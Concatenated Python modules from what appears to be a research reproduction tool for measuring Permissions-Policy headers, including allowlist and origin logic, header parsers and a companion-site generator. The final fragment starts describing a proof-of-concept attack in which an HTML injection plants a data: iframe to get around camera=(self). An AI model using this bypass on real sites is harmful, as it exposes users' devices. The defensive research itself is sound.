                if finding.protects_only_chromium]
