"""Allowlist values and matching.

Every policy directive — in a ``Permissions-Policy`` header, a legacy
``Feature-Policy`` header, or an iframe ``allow`` attribute — maps a feature
to an *allowlist*: the set of origins the feature is available to.  The
specification defines the keywords ``*`` (everyone), ``self`` (the declaring
document's origin), ``src`` (the origin of the iframe ``src`` attribute;
only meaningful inside ``allow``) and ``none`` (nobody), plus explicit
origins.

This module also provides the *strictness classification* the paper's
Table 9 uses: for each declared permission, what is the least restrictive
directive a website deploys (Disable, Self, Same Origin, Same Site,
Third-party, or ``*``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.policy.origin import Origin


class AllowlistKeyword(str, Enum):
    """Special allowlist keywords defined by the specification."""

    STAR = "*"
    SELF = "self"
    SRC = "src"
    NONE = "none"


@dataclass(frozen=True)
class Allowlist:
    """A parsed allowlist.

    ``invalid_tokens`` retains tokens the specification does not recognise
    (e.g. ``none`` inside a header inner list, ``0``, or unquoted URLs);
    browsers ignore them, the linter reports them (paper Section 4.3.3).
    """

    star: bool = False
    self_: bool = False
    src: bool = False
    origins: tuple[Origin, ...] = ()
    invalid_tokens: tuple[str, ...] = ()

    # -- constructors ---------------------------------------------------------

    @classmethod
    def all_origins(cls) -> "Allowlist":
        return cls(star=True)

    @classmethod
    def self_only(cls) -> "Allowlist":
        return cls(self_=True)

    @classmethod
    def nobody(cls) -> "Allowlist":
        return cls()

    @classmethod
    def src_only(cls) -> "Allowlist":
        return cls(src=True)

    @classmethod
    def of(cls, *origins: Origin, self_: bool = False, star: bool = False,
           src: bool = False) -> "Allowlist":
        return cls(star=star, self_=self_, src=src, origins=tuple(origins))

    # -- predicates -----------------------------------------------------------

    @property
    def is_empty(self) -> bool:
        """True when the allowlist matches nobody (the ``()`` / ``none`` case),
        ignoring invalid tokens the browser drops."""
        return not (self.star or self.self_ or self.src or self.origins)

    def allows(self, origin: Origin, *, self_origin: Origin,
               src_origin: Origin | None = None) -> bool:
        """Whether ``origin`` is in this allowlist.

        Args:
            origin: The origin asking for the feature.
            self_origin: The origin of the document declaring the allowlist
                (gives meaning to ``self``).
            src_origin: The origin of the iframe ``src`` attribute (gives
                meaning to ``src``; ``None`` outside ``allow`` attributes).
        """
        if self.star:
            return True
        if self.self_ and origin.same_origin(self_origin):
            return True
        if self.src and src_origin is not None and origin.same_origin(src_origin):
            return True
        return any(origin.same_origin(entry) for entry in self.origins)

    def merged(self, other: "Allowlist") -> "Allowlist":
        """Union of two allowlists (used when a directive appears twice)."""
        return Allowlist(
            star=self.star or other.star,
            self_=self.self_ or other.self_,
            src=self.src or other.src,
            origins=tuple(dict.fromkeys(self.origins + other.origins)),
            invalid_tokens=tuple(dict.fromkeys(
                self.invalid_tokens + other.invalid_tokens)),
        )

    def serialize_header(self) -> str:
        """Structured-field serialization for a Permissions-Policy header."""
        if self.star:
            return "*"
        if self.is_empty:
            return "()"
        parts: list[str] = []
        if self.self_:
            parts.append("self")
        parts.extend(f'"{origin.serialize()}"' for origin in self.origins)
        if len(parts) == 1 and parts[0] == "self":
            return "(self)"
        return "(" + " ".join(parts) + ")"


class DirectiveClass(str, Enum):
    """Least-restrictive classification of a directive (paper Table 9)."""

    DISABLE = "disable"
    SELF = "self"
    SAME_ORIGIN = "same-origin"
    SAME_SITE = "same-site"
    THIRD_PARTY = "third-party"
    STAR = "all"


#: Order from most to least restrictive; ``classify_directive`` returns the
#: least restrictive class that applies, mirroring how the paper counts a
#: website once in its loosest column.
_CLASS_ORDER: tuple[DirectiveClass, ...] = (
    DirectiveClass.DISABLE,
    DirectiveClass.SELF,
    DirectiveClass.SAME_ORIGIN,
    DirectiveClass.SAME_SITE,
    DirectiveClass.THIRD_PARTY,
    DirectiveClass.STAR,
)


def strictness_rank(cls: DirectiveClass) -> int:
    """Index in the restrictive→permissive order (0 = most restrictive)."""
    return _CLASS_ORDER.index(cls)


def classify_directive(allowlist: Allowlist, declaring_origin: Origin
                       ) -> DirectiveClass:
    """Classify an allowlist by its least restrictive grant.

    ``Disable`` for the empty list, ``Self`` when only the ``self`` keyword
    appears, ``Same Origin`` / ``Same Site`` / ``Third-party`` when explicit
    origins are present (judged against the declaring origin), and ``All``
    when ``*`` appears anywhere.
    """
    if allowlist.star:
        return DirectiveClass.STAR
    loosest = DirectiveClass.DISABLE
    if allowlist.self_:
        loosest = DirectiveClass.SELF
    for origin in allowlist.origins:
        if origin.same_origin(declaring_origin):
            candidate = DirectiveClass.SAME_ORIGIN
        elif origin.same_site(declaring_origin):
            candidate = DirectiveClass.SAME_SITE
        else:
            candidate = DirectiveClass.THIRD_PARTY
        if strictness_rank(candidate) > strictness_rank(loosest):
            loosest = candidate
    return loosest
