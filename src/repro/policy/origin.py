"""Origins, sites and local schemes.

Permissions Policy decisions are keyed on *origins* (scheme, host, port) and
the paper's first/third-party classification is keyed on *sites* — the
registrable domain (eTLD+1) of a host.  The Fetch Standard additionally
defines *local schemes* (``about:``, ``data:``, ``blob:``); documents loaded
from them have no network response and are the subject of the local-scheme
inheritance bug in Section 6.2 of the paper.  The ``javascript:`` scheme is
treated like a local scheme by the paper's iframe accounting.

The public suffix handling embeds a compact subset of the Public Suffix List
covering the suffixes that actually occur in the synthetic web; an exact copy
of the multi-megabyte PSL is unnecessary for the measurement semantics.
"""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import urlsplit

#: Local schemes per the Fetch Standard, plus ``javascript:`` which the
#: paper groups with them ("local document iframes", Section 4).
LOCAL_SCHEMES: frozenset[str] = frozenset({"about", "data", "blob", "javascript"})

_DEFAULT_PORTS = {"http": 80, "https": 443, "ws": 80, "wss": 443, "ftp": 21}

#: Multi-label public suffixes recognised in addition to the plain TLD rule.
#: Subset of the PSL sufficient for the hosts this project generates or that
#: appear in the paper's tables.
_MULTI_LABEL_SUFFIXES: frozenset[str] = frozenset({
    "co.uk", "org.uk", "ac.uk", "gov.uk",
    "com.au", "net.au", "org.au",
    "co.jp", "ne.jp", "or.jp",
    "com.br", "net.br", "org.br",
    "co.in", "net.in", "org.in",
    "com.cn", "net.cn", "org.cn",
    "com.mx", "com.ar", "com.tr", "com.sg",
    "co.kr", "co.za", "co.nz",
    "github.io", "gitlab.io", "appspot.com", "blogspot.com",
    "cloudfront.net", "amazonaws.com", "azurewebsites.net",
    "herokuapp.com", "netlify.app", "vercel.app", "pages.dev",
})


class OriginParseError(ValueError):
    """Raised when a URL cannot be turned into an :class:`Origin`."""


@dataclass(frozen=True)
class Origin:
    """A web origin: ``(scheme, host, port)``.

    Local-scheme documents have an *opaque* origin; we model that with
    :meth:`opaque` instances that compare unequal to every tuple origin
    and carry the scheme for diagnostics.
    """

    scheme: str
    host: str
    port: int | None = None
    opaque: bool = False

    @classmethod
    def parse(cls, url: str) -> "Origin":
        """Parse a URL into its origin.

        Local-scheme URLs produce opaque origins.  Scheme-relative and bare
        hosts are rejected: callers must hand in absolute URLs, matching
        what a crawler records.

        Raises:
            OriginParseError: for unparsable input.
        """
        if not url or not isinstance(url, str):
            raise OriginParseError(f"not a URL: {url!r}")
        try:
            split = urlsplit(url.strip())
        except ValueError as exc:  # e.g. unbalanced IPv6 brackets
            raise OriginParseError(f"unparsable URL {url!r}") from exc
        scheme = split.scheme.lower()
        if not scheme:
            raise OriginParseError(f"URL without scheme: {url!r}")
        if scheme in LOCAL_SCHEMES:
            return cls(scheme=scheme, host="", port=None, opaque=True)
        host = (split.hostname or "").lower()
        if not host:
            raise OriginParseError(f"URL without host: {url!r}")
        try:
            port = split.port
        except ValueError as exc:
            raise OriginParseError(f"invalid port in {url!r}") from exc
        if port is not None and port == _DEFAULT_PORTS.get(scheme):
            port = None
        return cls(scheme=scheme, host=host, port=port)

    @classmethod
    def opaque_origin(cls, scheme: str = "data") -> "Origin":
        """An opaque origin, as carried by local-scheme documents."""
        return cls(scheme=scheme, host="", port=None, opaque=True)

    @property
    def is_local_scheme(self) -> bool:
        return self.scheme in LOCAL_SCHEMES

    def same_origin(self, other: "Origin") -> bool:
        """Origin equality.  Opaque origins compare by *identity*, like
        browser-internal opaque origins: an opaque origin is same-origin
        with itself but with nothing else — two independently minted opaque
        origins never match."""
        if self.opaque or other.opaque:
            return self is other
        return (self.scheme, self.host, self.port) == (
            other.scheme, other.host, other.port)

    def same_site(self, other: "Origin") -> bool:
        """Schemeless same-site comparison on registrable domains."""
        if self.opaque or other.opaque:
            return False
        return registrable_domain(self.host) == registrable_domain(other.host)

    @property
    def site(self) -> str:
        """The origin's site (registrable domain), or ``""`` when opaque."""
        if self.opaque:
            return ""
        return registrable_domain(self.host)

    def serialize(self) -> str:
        """ASCII serialization, e.g. ``https://example.org:8443``."""
        if self.opaque:
            return "null"
        if self.port is None:
            return f"{self.scheme}://{self.host}"
        return f"{self.scheme}://{self.host}:{self.port}"

    def __str__(self) -> str:
        return self.serialize()


def public_suffix(host: str) -> str:
    """The public suffix of a host under the embedded PSL subset."""
    host = host.lower().rstrip(".")
    labels = host.split(".")
    for take in (3, 2):
        if len(labels) > take:
            candidate = ".".join(labels[-take:])
            if candidate in _MULTI_LABEL_SUFFIXES:
                return candidate
    # exact multi-label host that *is* a suffix (e.g. "appspot.com")
    if host in _MULTI_LABEL_SUFFIXES:
        return host
    return labels[-1]


def registrable_domain(host: str) -> str:
    """eTLD+1 of a host — the paper's *site* notion.

    IP addresses and single-label hosts are their own site.
    """
    host = host.lower().rstrip(".")
    if not host:
        return ""
    if _looks_like_ip(host):
        return host
    suffix = public_suffix(host)
    if host == suffix:
        return host
    prefix = host[: -(len(suffix) + 1)]
    last_label = prefix.rsplit(".", 1)[-1]
    return f"{last_label}.{suffix}"


def site_of(url_or_origin: "str | Origin") -> str:
    """The site of a URL or origin; ``""`` for opaque/local documents."""
    origin = (url_or_origin if isinstance(url_or_origin, Origin)
              else Origin.parse(url_or_origin))
    return origin.site


def _looks_like_ip(host: str) -> bool:
    if ":" in host:  # IPv6 literal
        return True
    parts = host.split(".")
    return len(parts) == 4 and all(p.isdigit() for p in parts)
