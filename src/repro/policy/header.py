"""``Permissions-Policy`` header parsing.

The header is a structured-field dictionary mapping feature tokens to
allowlists (paper Section 2.2.3)::

    Permissions-Policy: camera=(), geolocation=(self "https://maps.example"), fullscreen=*

Browser behaviour reproduced here:

* Any structured-field **syntax error drops the entire header** — the paper
  found 3,244 frames (2 %) whose header the browser silently discards this
  way, leaving the site with default allowlists only (Section 4.3.3).
* Within a syntactically valid header, **unrecognised members are skipped
  individually**: unknown keywords (``none``, ``0``), unquoted URLs (which
  parse as structured-field tokens), and unknown feature names.  The browser
  ignores them; we retain them as diagnostics for the linter.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.policy.allowlist import Allowlist
from repro.policy.issues import (
    HEADER_DROPPED,
    PARSER_ERROR,
    ParseIssue,
    clip_detail,
)
from repro.policy.memo import interned
from repro.policy.origin import Origin, OriginParseError
from repro.policy.structured import (
    InnerList,
    Item,
    StructuredFieldError,
    Token,
    parse_dictionary_items,
)


class HeaderParseError(ValueError):
    """The header is syntactically invalid; browsers drop it entirely."""

    def __init__(self, message: str, raw: str) -> None:
        super().__init__(message)
        self.raw = raw


class DirectiveIssue(str, Enum):
    """Per-directive semantic diagnostics (paper Section 4.3.3)."""

    UNRECOGNIZED_TOKEN = "unrecognized-token"
    UNQUOTED_URL = "unquoted-url"
    CONTRADICTORY = "contradictory-self-and-star"
    URL_WITHOUT_SELF = "url-without-self"
    UNKNOWN_FEATURE = "unknown-feature"
    INVALID_ORIGIN = "invalid-origin"
    DUPLICATE_FEATURE = "duplicate-feature"


@dataclass(frozen=True)
class DirectiveDiagnostic:
    """One semantic finding attached to a feature's directive."""

    feature: str
    issue: DirectiveIssue
    detail: str = ""


@dataclass
class ParsedPolicyHeader:
    """Result of parsing one ``Permissions-Policy`` header value.

    Attributes:
        raw: The header value as received.
        directives: Feature → effective allowlist, as the browser applies it.
        diagnostics: Semantic findings the browser silently tolerates.
        known_feature_names: Names the caller's registry recognised; unknown
            feature directives are *kept* in ``directives`` (forward
            compatibility) but flagged in ``diagnostics``.
    """

    raw: str
    directives: dict[str, Allowlist] = field(default_factory=dict)
    diagnostics: list[DirectiveDiagnostic] = field(default_factory=list)
    #: Lenient-mode only: what a strict parse would have raised (or any
    #: other problem the lenient path absorbed).  Always empty for strict
    #: parses, which raise instead.
    issues: tuple[ParseIssue, ...] = ()
    #: Lenient-mode only: the header was syntactically invalid and the
    #: browser drops it entirely — ``directives`` is empty.
    dropped: bool = False

    @property
    def feature_count(self) -> int:
        """Number of features the header declares a directive for."""
        return len(self.directives)

    def allowlist_for(self, feature: str) -> Allowlist | None:
        return self.directives.get(feature)

    def has_issue(self, issue: DirectiveIssue) -> bool:
        return any(d.issue is issue for d in self.diagnostics)


def _looks_like_url(token_text: str) -> bool:
    return "://" in token_text or token_text.startswith(("http:", "https:"))


def _allowlist_from_items(feature: str, items: tuple[Item, ...],
                          diagnostics: list[DirectiveDiagnostic]) -> Allowlist:
    star = False
    self_ = False
    src = False
    origins: list[Origin] = []
    invalid: list[str] = []
    for item in items:
        value = item.value
        if isinstance(value, Token):
            text = value.value
            if text == "*":
                star = True
            elif text == "self":
                self_ = True
            elif text == "src":
                src = True
            elif _looks_like_url(text):
                # URLs must be quoted strings; a bare URL still parses as an
                # sf-token, which the spec then fails to recognise.
                diagnostics.append(DirectiveDiagnostic(
                    feature, DirectiveIssue.UNQUOTED_URL, text))
                invalid.append(text)
            else:
                # e.g. `none` or other keywords with no meaning in headers
                diagnostics.append(DirectiveDiagnostic(
                    feature, DirectiveIssue.UNRECOGNIZED_TOKEN, text))
                invalid.append(text)
        elif isinstance(value, str):
            try:
                origins.append(Origin.parse(value))
            except OriginParseError:
                diagnostics.append(DirectiveDiagnostic(
                    feature, DirectiveIssue.INVALID_ORIGIN, value))
                invalid.append(value)
        else:
            # integers / decimals / booleans — e.g. `camera=(0)`
            diagnostics.append(DirectiveDiagnostic(
                feature, DirectiveIssue.UNRECOGNIZED_TOKEN, repr(value)))
            invalid.append(str(value))
    allowlist = Allowlist(star=star, self_=self_, src=src,
                          origins=tuple(dict.fromkeys(origins)),
                          invalid_tokens=tuple(invalid))
    if star and (self_ or origins):
        diagnostics.append(DirectiveDiagnostic(
            feature, DirectiveIssue.CONTRADICTORY,
            "allowlist mixes '*' with self/origins"))
    if origins and not self_ and not star:
        # Per W3C issue #480 (paper [39]): origin-only allowlists without
        # `self` are a footgun — delegation requires the self context too.
        diagnostics.append(DirectiveDiagnostic(
            feature, DirectiveIssue.URL_WITHOUT_SELF,
            "origins listed without 'self'"))
    return allowlist


def _detect_feature_policy_syntax(raw: str) -> bool:
    """Heuristic for the most common fatal mistake the paper reports:
    using the semicolon-and-quotes Feature-Policy grammar inside a
    Permissions-Policy header."""
    stripped = raw.strip()
    if "'" in stripped:
        return True
    if ";" in stripped and "=" not in stripped:
        return True
    return False


#: Valid values for the parsers' ``mode`` argument.
PARSE_MODES = ("strict", "lenient")


def parse_permissions_policy_header(
    raw: str,
    known_features: "frozenset[str] | set[str] | None" = None,
    *,
    mode: str = "strict",
) -> ParsedPolicyHeader:
    """Parse a ``Permissions-Policy`` header value.

    Args:
        raw: The header value.
        known_features: Feature names the registry recognises.  When given,
            unknown feature directives are flagged (but still applied, as
            Chromium does for forward compatibility).
        mode: ``"strict"`` (default) raises on syntax errors exactly as
            before; ``"lenient"`` never raises — a header a strict parse
            would reject comes back empty with ``dropped=True`` and the
            reason recorded in ``issues``.

    Returns:
        A :class:`ParsedPolicyHeader` with per-feature allowlists and
        semantic diagnostics.  Successful parses are interned by raw string
        (the parse is pure); treat the result as read-only.

    Raises:
        HeaderParseError: in strict mode, on structured-field syntax
            errors; the caller must treat the website as having **no**
            header (browser behaviour).  Errors are never cached — a bad
            header re-raises every call.  Lenient mode never raises on any
            string input.
    """
    if mode not in PARSE_MODES:
        raise ValueError(f"mode must be one of {PARSE_MODES}, got {mode!r}")
    if known_features is not None and not isinstance(known_features,
                                                     frozenset):
        known_features = frozenset(known_features)
    if mode == "strict":
        return _parse_permissions_policy_cached(raw, known_features)
    try:
        return _parse_permissions_policy_cached(raw, known_features)
    except HeaderParseError as exc:
        return ParsedPolicyHeader(
            raw=raw, dropped=True,
            issues=(ParseIssue(HEADER_DROPPED, clip_detail(str(exc))),))
    except Exception as exc:  # hostile input must never escape lenient mode
        return ParsedPolicyHeader(
            raw=raw, dropped=True,
            issues=(ParseIssue(
                PARSER_ERROR,
                clip_detail(f"{type(exc).__name__}: {exc}")),))


@interned
def _parse_permissions_policy_cached(
        raw: str, known_features: "frozenset[str] | None"
) -> ParsedPolicyHeader:
    try:
        members = parse_dictionary_items(raw)
    except StructuredFieldError as exc:
        if _detect_feature_policy_syntax(raw):
            raise HeaderParseError(
                "header uses Feature-Policy syntax", raw) from exc
        raise HeaderParseError(str(exc), raw) from exc

    result = ParsedPolicyHeader(raw=raw)
    for feature, member in members:
        if isinstance(member, InnerList):
            allowlist = _allowlist_from_items(feature, member.items,
                                              result.diagnostics)
        else:
            value = member.value
            if isinstance(value, Token) and value.value == "*":
                allowlist = Allowlist.all_origins()
            elif isinstance(value, Token) and value.value == "self":
                allowlist = Allowlist.self_only()
            elif value is True:
                # bare key, e.g. `camera` with no value: treated as `*` by
                # Chromium's parser for standalone items.
                allowlist = Allowlist.all_origins()
            else:
                allowlist = _allowlist_from_items(
                    feature, (Item(value),), result.diagnostics)
        if feature in result.directives:
            result.diagnostics.append(DirectiveDiagnostic(
                feature, DirectiveIssue.DUPLICATE_FEATURE))
            allowlist = result.directives[feature].merged(allowlist)
        if known_features is not None and feature not in known_features:
            result.diagnostics.append(DirectiveDiagnostic(
                feature, DirectiveIssue.UNKNOWN_FEATURE))
        result.directives[feature] = allowlist
    return result


# The public function mirrors the interned wrapper's cache surface so
# callers (and tests) can keep poking `parse_permissions_policy_header.cache`.
parse_permissions_policy_header.cache = _parse_permissions_policy_cached.cache
parse_permissions_policy_header.cache_clear = \
    _parse_permissions_policy_cached.cache_clear


def serialize_permissions_policy(directives: dict[str, Allowlist]) -> str:
    """Serialize directives back into a header value (used by the header
    generator tool, Figure 4)."""
    return ", ".join(
        f"{feature}={allowlist.serialize_header()}"
        for feature, allowlist in directives.items()
    )
