"""Legacy ``Feature-Policy`` header and the shared serialized-directive
grammar.

Before being renamed to Permissions Policy, the specification used a
different, CSP-like syntax (paper Section 2.2.6)::

    Feature-Policy: camera 'self' https://trusted.example; geolocation 'none'

Directives are semicolon-separated; each starts with the feature name
followed by allowlist members: ``*``, the quoted keywords ``'self'``,
``'none'``, ``'src'``, or unquoted origin URLs.  Chromium still enforces
this header when no ``Permissions-Policy`` header is present, which is why
the paper collects both.

The same serialized grammar (minus the header framing) is what the iframe
``allow`` attribute uses, so :func:`parse_serialized_policy` is shared with
:mod:`repro.policy.allow_attr`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.policy.allowlist import Allowlist
from repro.policy.issues import (
    INVALID_TOKEN,
    PARSER_ERROR,
    ParseIssue,
    clip_detail,
)
from repro.policy.memo import interned
from repro.policy.origin import Origin, OriginParseError


@dataclass(frozen=True)
class SerializedDirective:
    """One parsed directive of the serialized (legacy / allow) grammar.

    Attributes:
        feature: The feature token.
        allowlist: Effective allowlist, ``None`` when no member tokens were
            present (the caller decides the default: ``self`` for
            Feature-Policy headers, ``src`` for ``allow`` attributes).
        tokens: Raw member tokens as written.
        invalid_tokens: Member tokens that parse as neither keyword nor
            origin.
    """

    feature: str
    allowlist: Allowlist | None
    tokens: tuple[str, ...] = ()
    invalid_tokens: tuple[str, ...] = ()

    @property
    def is_explicit(self) -> bool:
        """Whether the author wrote any allowlist member at all."""
        return bool(self.tokens)


def _unquote_keyword(token: str) -> str | None:
    """Map a member token to a keyword name, accepting both the spec form
    (``'self'``) and the common unquoted mistake (``self``)."""
    stripped = token
    if len(token) >= 2 and token[0] == token[-1] == "'":
        stripped = token[1:-1]
    if stripped in ("self", "none", "src"):
        return stripped
    if token == "*":
        return "*"
    return None


def parse_serialized_policy(text: str) -> list[SerializedDirective]:
    """Parse a serialized policy string (Feature-Policy / ``allow`` grammar).

    The grammar is forgiving by design — browsers skip what they do not
    understand instead of dropping the whole attribute — so this parser
    never raises; unknown member tokens land in ``invalid_tokens``.
    """
    directives: list[SerializedDirective] = []
    for chunk in text.split(";"):
        parts = chunk.split()
        if not parts:
            continue
        feature = parts[0]
        member_tokens = tuple(parts[1:])
        if not member_tokens:
            directives.append(SerializedDirective(feature, None))
            continue
        star = False
        self_ = False
        src = False
        none = False
        origins: list[Origin] = []
        invalid: list[str] = []
        for token in member_tokens:
            keyword = _unquote_keyword(token)
            if keyword == "*":
                star = True
            elif keyword == "self":
                self_ = True
            elif keyword == "src":
                src = True
            elif keyword == "none":
                none = True
            else:
                try:
                    origins.append(Origin.parse(token))
                except OriginParseError:
                    invalid.append(token)
        if none and not (star or self_ or src or origins):
            allowlist = Allowlist.nobody()
        else:
            # 'none' mixed with other members is ignored, like browsers do.
            allowlist = Allowlist(star=star, self_=self_, src=src,
                                  origins=tuple(dict.fromkeys(origins)),
                                  invalid_tokens=tuple(invalid))
        directives.append(SerializedDirective(
            feature, allowlist, member_tokens, tuple(invalid)))
    return directives


@dataclass
class ParsedFeaturePolicyHeader:
    """Result of parsing one legacy ``Feature-Policy`` header value."""

    raw: str
    directives: dict[str, Allowlist] = field(default_factory=dict)
    invalid_tokens: tuple[str, ...] = ()
    #: Lenient-mode only: issues the parse survived (invalid member tokens,
    #: or a swallowed parser crash).  Empty for strict parses.
    issues: tuple[ParseIssue, ...] = ()

    @property
    def feature_count(self) -> int:
        return len(self.directives)


def parse_feature_policy_header(
        raw: str, *, mode: str = "strict") -> ParsedFeaturePolicyHeader:
    """Parse a legacy ``Feature-Policy`` header value.

    A directive without members defaults to ``'self'`` (unlike the ``allow``
    attribute where the default is ``'src'``).

    The serialized grammar is already forgiving, so strict mode rarely
    raises either — but lenient mode *guarantees* it never does (a parser
    crash on hostile input degrades to an empty header with the crash
    recorded in ``issues``) and surfaces invalid member tokens as
    :class:`~repro.policy.issues.ParseIssue` records.

    Results are interned by raw string (the parse is pure); treat the
    returned header as read-only.
    """
    if mode == "strict":
        return _parse_feature_policy_cached(raw)
    if mode != "lenient":
        raise ValueError(f"mode must be 'strict' or 'lenient', got {mode!r}")
    try:
        parsed = _parse_feature_policy_cached(raw)
    except Exception as exc:
        return ParsedFeaturePolicyHeader(
            raw=raw,
            issues=(ParseIssue(
                PARSER_ERROR,
                clip_detail(f"{type(exc).__name__}: {exc}")),))
    if not parsed.invalid_tokens:
        return parsed
    # Fresh result: the interned strict object must stay issue-free.
    return ParsedFeaturePolicyHeader(
        raw=raw, directives=dict(parsed.directives),
        invalid_tokens=parsed.invalid_tokens,
        issues=tuple(ParseIssue(INVALID_TOKEN, clip_detail(token))
                     for token in parsed.invalid_tokens))


@interned
def _parse_feature_policy_cached(raw: str) -> ParsedFeaturePolicyHeader:
    parsed = parse_serialized_policy(raw)
    result = ParsedFeaturePolicyHeader(raw=raw)
    invalid: list[str] = []
    for directive in parsed:
        allowlist = directive.allowlist
        if allowlist is None:
            allowlist = Allowlist.self_only()
        invalid.extend(directive.invalid_tokens)
        if directive.feature in result.directives:
            allowlist = result.directives[directive.feature].merged(allowlist)
        result.directives[directive.feature] = allowlist
    result.invalid_tokens = tuple(invalid)
    return result


parse_feature_policy_header.cache = _parse_feature_policy_cached.cache
parse_feature_policy_header.cache_clear = \
    _parse_feature_policy_cached.cache_clear
