"""Static-site generator for the companion website (Figures 3 and 4).

The paper's tooling is published as a website: a caniuse-style permission
compatibility table with historical changes, and a ``Permissions-Policy``
header generator.  This module renders both pages as self-contained static
HTML from the same registry and support-matrix data the analyses use, so
the site can never drift from the measurement.

Pages:

* ``index.html`` — the support matrix (Figure 3): per-permission rows with
  policy-controlled / powerful flags, default allowlists and per-browser
  support, plus the version-history changelog.
* ``generator.html`` — the header generator (Figure 4): the two presets
  rendered ready to copy, plus a vanilla-JS checkbox form that assembles a
  custom header client-side from the embedded permission list.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from html import escape
from pathlib import Path

from repro.registry.browsers import ALL_BROWSERS
from repro.registry.support import SupportMatrix, default_support_matrix
from repro.tools.header_generator import HeaderGenerator, HeaderPreset

_STYLE = """
body { font-family: system-ui, sans-serif; margin: 2rem auto;
       max-width: 72rem; color: #1a1a2e; }
table { border-collapse: collapse; width: 100%; font-size: 0.9rem; }
th, td { border: 1px solid #d8d8e8; padding: 0.3rem 0.6rem;
         text-align: left; }
th { background: #f0f0fa; position: sticky; top: 0; }
.yes { color: #0a7a2f; font-weight: 600; }
.no { color: #b02a2a; }
.deprecated { color: #888; text-decoration: line-through; }
code, pre { background: #f5f5fb; border-radius: 4px; padding: 0.15rem 0.4rem; }
pre { padding: 0.8rem; overflow-x: auto; }
nav a { margin-right: 1.2rem; }
.changelog { font-size: 0.85rem; color: #444; }
"""


def _mark(flag: bool) -> str:
    return '<span class="yes">yes</span>' if flag \
        else '<span class="no">no</span>'


@dataclass
class SiteGenerator:
    """Renders the two companion pages."""

    matrix: SupportMatrix = field(default_factory=default_support_matrix)

    # -- Figure 3: the support matrix page ---------------------------------------

    def render_index(self) -> str:
        browser_headers = "".join(f"<th>{escape(browser.name)}</th>"
                                  for browser in ALL_BROWSERS)
        rows = []
        for permission, support in self.matrix.matrix():
            name = escape(permission.name)
            name_cell = (f'<span class="deprecated">{name}</span>'
                         if permission.deprecated else name)
            cells = "".join(f"<td>{_mark(support[browser.name])}</td>"
                            for browser in ALL_BROWSERS)
            default = (permission.default_allowlist.value
                       if permission.default_allowlist else "—")
            rows.append(
                f"<tr><td>{name_cell}</td>"
                f"<td>{_mark(permission.policy_controlled)}</td>"
                f"<td>{_mark(permission.powerful)}</td>"
                f"<td><code>{escape(default)}</code></td>"
                f"<td>{escape(permission.spec)}</td>{cells}</tr>")
        changelog = self._render_changelog()
        return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Browser permission support</title><style>{_STYLE}</style></head>
<body>
<nav><a href="index.html">Support matrix</a>
<a href="generator.html">Header generator</a></nav>
<h1>Browser permission support</h1>
<p>Which permissions each browser supports, whether they are
policy-controlled (governable via <code>Permissions-Policy</code> and the
iframe <code>allow</code> attribute) and powerful (gated on a user prompt),
and their default allowlists.</p>
<table>
<tr><th>permission</th><th>policy</th><th>powerful</th><th>default</th>
<th>spec</th>{browser_headers}</tr>
{''.join(rows)}
</table>
<h2>Support changes across versions</h2>
<div class="changelog">{changelog}</div>
</body></html>
"""

    def _render_changelog(self) -> str:
        entries = []
        for permission in self.matrix.registry:
            for browser in ALL_BROWSERS:
                changes = self.matrix.changes(permission.name, browser)
                for release, status in changes[1:]:  # skip the initial state
                    entries.append(
                        (release.release_date, release, permission.name,
                         status.value))
        entries.sort(key=lambda entry: entry[0], reverse=True)
        items = [
            f"<li><strong>{escape(str(release))}</strong>: "
            f"<code>{escape(name)}</code> → {escape(status)}</li>"
            for _date, release, name, status in entries[:60]
        ]
        return f"<ul>{''.join(items)}</ul>"

    # -- Figure 4: the generator page --------------------------------------------

    def render_generator(self) -> str:
        generator = HeaderGenerator(matrix=self.matrix)
        disable_all = generator.generate_preset(HeaderPreset.DISABLE_ALL)
        disable_powerful = generator.generate_preset(
            HeaderPreset.DISABLE_POWERFUL)
        permissions = [
            {"name": perm.name, "powerful": perm.powerful}
            for perm in self.matrix.chromium_supported_permissions()
        ]
        permission_json = json.dumps(permissions)
        return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Permissions-Policy header generator</title>
<style>{_STYLE}</style></head>
<body>
<nav><a href="index.html">Support matrix</a>
<a href="generator.html">Header generator</a></nav>
<h1>Permissions-Policy header generator</h1>
<p>Generated from the live support data, so the headers below always cover
every currently supported permission.</p>
<h2>Preset: disable all permissions</h2>
<pre id="preset-all">Permissions-Policy: {escape(disable_all)}</pre>
<h2>Preset: disable powerful permissions</h2>
<pre id="preset-powerful">Permissions-Policy: {escape(disable_powerful)}</pre>
<h2>Custom</h2>
<p>Tick the permissions your site needs in its own context; everything
else is disabled.</p>
<div id="picker"></div>
<pre id="custom"></pre>
<script>
const PERMISSIONS = {permission_json};
const picker = document.getElementById("picker");
const output = document.getElementById("custom");
function rebuild() {{
  const directives = PERMISSIONS.map(p => {{
    const box = document.getElementById("perm-" + p.name);
    return p.name + "=" + (box && box.checked ? "(self)" : "()");
  }});
  output.textContent = "Permissions-Policy: " + directives.join(", ");
}}
for (const p of PERMISSIONS) {{
  const label = document.createElement("label");
  label.style.marginRight = "1rem";
  const box = document.createElement("input");
  box.type = "checkbox"; box.id = "perm-" + p.name;
  box.addEventListener("change", rebuild);
  label.appendChild(box);
  label.appendChild(document.createTextNode(
    " " + p.name + (p.powerful ? " ⚠" : "")));
  picker.appendChild(label);
}}
rebuild();
</script>
</body></html>
"""

    # -- writing -----------------------------------------------------------------------

    def build(self, output_dir: "str | Path") -> list[Path]:
        """Write both pages; returns the created paths."""
        directory = Path(output_dir)
        directory.mkdir(parents=True, exist_ok=True)
        index = directory / "index.html"
        generator = directory / "generator.html"
        index.write_text(self.render_index(), encoding="utf-8")
        generator.write_text(self.render_generator(), encoding="utf-8")
        return [index, generator]
