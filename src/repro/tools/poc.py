"""Local-scheme specification-issue proof of concept (paper Table 11).

Reconstructs the attack the paper reported to the W3C and a major browser
vendor (W3C webappsec-permissions-policy issue #552):

1. *victim.example* deploys ``Permissions-Policy: camera=(self)`` — the
   second most common configuration in the measurement.
2. Its CSP (if any) does not constrain frame loads, so an HTML injection
   can plant a ``data:`` iframe.
